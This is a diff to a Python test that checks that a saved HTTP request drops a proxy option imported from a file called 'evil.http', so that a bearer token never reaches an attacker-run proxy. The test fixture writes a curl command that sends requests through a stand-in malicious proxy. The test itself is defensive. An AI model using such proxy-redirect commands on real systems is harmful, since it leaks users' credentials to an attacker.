@@ -102,7 +102,7 @@ def test_a_saved_request_does_not_take_the_way_of_a_file_along(
     Path("evil.http").write_text(f"curl -x {evil.url} {api.url}/echo")
     shell.say("replay evil.http", f"set auth bearer {TOKEN}")
 
-    assert "left out: --proxy" in shell.say("save request it")
+    assert "not saved: --proxy" in shell.say("save request it")
     shell.run("send it")
     assert shell.context.last.outgoing.route.proxy == ""
     assert TOKEN.encode() not in evil.seen
